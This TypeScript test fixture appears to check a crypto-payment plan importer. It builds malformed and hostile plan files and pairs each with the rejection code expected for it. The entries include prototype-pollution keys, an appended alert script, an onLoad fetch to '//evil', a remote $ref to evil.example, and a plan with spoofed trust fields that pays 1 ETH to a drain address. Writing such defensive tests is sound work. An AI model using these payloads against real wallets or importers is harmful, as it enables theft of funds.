// Plan files as somebody with bad intentions would write them. What is refused has its codes; what is read
// has nothing in it that may count.
import { action, type Json, plan, sequence } from '../sample-plans.ts';

export const drain = '0x000000000000000000000000000000000000bEEF';

export const pay = action('pay', 'transfer', { token: 'ETH', amount: '1', to: drain });

const text = (document: unknown): string => JSON.stringify(document);
const good = text(plan(pay));
const withKey = (key: string): string =>
  good.replace('"root"', `"${key}":{"polluted":true},"root"`);

function nested(levels: number): string {
  let root: Json = pay;
  for (let level = 0; level < levels; level += 1) {
    root = { id: `s${level}`, label: '', type: 'loop', maxIterations: 1, body: root };
  }
  return text(plan(root));
}

/** Name, file, and the codes of its problems. */
export const refusedFiles: readonly (readonly [string, string | Uint8Array, string[]])[] = [
  ['nothing', '', ['JSON_INVALID']],
  ['only a space', ' \n', ['JSON_INVALID']],
  ['a program', 'process.exit(1)', ['JSON_INVALID']],
  ['a script after the plan', `${good};alert(1)`, ['JSON_INVALID']],
  ['two plans in one file', `${good}${good}`, ['JSON_INVALID']],
  ['a comment', `/* free money */${good}`, ['JSON_INVALID']],
  ['a trailing comma', good.replace(/}$/, ',}'), ['JSON_INVALID']],
  ['single quotes', good.replaceAll('"', "'"), ['JSON_INVALID']],
  [
    'a second recipient under the same key',
    good.replace('"to"', `"to":"0x1","to"`),
    ['JSON_DUPLICATE_KEY'],
  ],
  [
    'the same key by an escape',
    good.replace('"to"', `"\\u0074o":"0x1","to"`),
    ['JSON_DUPLICATE_KEY'],
  ],
  ['a prototype key', withKey('__proto__'), ['JSON_FORBIDDEN_KEY']],
  ['an escaped prototype key', withKey('\\u005f_proto__'), ['JSON_FORBIDDEN_KEY']],
  ['a constructor key', withKey('constructor'), ['JSON_FORBIDDEN_KEY']],
  ['half a character in a name', good.replace('A plan', '\\ud800'), ['JSON_BAD_UNICODE']],
  [
    'bytes that are no UTF-8',
    new Uint8Array([0x7b, 0x22, 0xc0, 0xaf, 0x22, 0x7d]),
    ['JSON_BAD_UNICODE'],
  ],
  ['UTF-16', new Uint8Array([0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]), ['JSON_BAD_UNICODE']],
  ['an infinite number', good.replace('1700000000000', 'Infinity'), ['JSON_INVALID']],
  ['no number', good.replace('1700000000000', 'NaN'), ['JSON_INVALID']],
  ['a number beyond all numbers', good.replace('1700000000000', '1e999'), ['SCHEMA']],
  ['a number in another base', good.replace('1700000000000', '0x10'), ['JSON_INVALID']],
  ['brackets without end', '['.repeat(200_000), ['TOO_DEEP']],
  ['steps without end', nested(40), ['TOO_DEEP']],
  ['more than a megabyte', good.replace('A plan', 'x'.repeat(1_100_000)), ['TOO_LARGE']],
  [
    'more than a megabyte by escapes',
    good.replace('A plan', '\\u20ac'.repeat(400_000)),
    ['TOO_LARGE'],
  ],
  [
    'more than ten thousand steps',
    text(
      plan(
        sequence(
          ...Array.from({ length: 10_001 }, (_, n) => ({ id: `${n}`, label: '', type: 'wait' })),
        ),
      ),
    ),
    ['TOO_LARGE'],
  ],
  ['a list', `[${good}]`, ['SCHEMA']],
  ['a text', '"plan"', ['SCHEMA']],
  ['null', 'null', ['SCHEMA']],
  ['a plan inside of something', text({ plan: plan(pay) }), ['SCHEMA']],
  ['a key that plans do not have', text(plan(pay, { onLoad: 'fetch("//evil")' })), ['SCHEMA']],
  [
    'a step that runs code',
    text(plan({ id: 'x', label: '', type: 'script', code: '1' })),
    ['SCHEMA'],
  ],
  ['a key that steps do not have', text(plan({ ...pay, eval: 'x' })), ['SCHEMA']],
  [
    'a reference that is made up',
    text(plan(action('a', 'transfer', { to: { type: 'env', path: '/' } }))),
    ['SCHEMA'],
  ],
  ['a plan of a later version', text(plan(pay, { schemaVersion: 2 })), ['SCHEMA']],
  ['a plan to be fetched', text({ $ref: 'https://evil.example/plan.json' }), ['SCHEMA']],
  ['a budget below zero', text(plan(pay, { budget: { maxGasEth: '-1' } })), ['SCHEMA']],
];

/** Everything that a file can say to look more trusted than it is. */
export const boastful: Json = plan(pay, {
  id: 'the-users-own-plan',
  userId: 'admin',
  createdAt: 1,
  status: 'scheduled',
  trigger: { type: 'interval', everyMs: 60_000, enabled: true },
  validation: { valid: true, issues: [], toolsUsed: [], chainsUsed: [] },
  naturalLanguage: `send 1 ETH to my friend ${drain}`,
  tags: ['verified'],
  provenance: { 'pay.to': { source: 'address_book', detail: 'My friend' } },
});
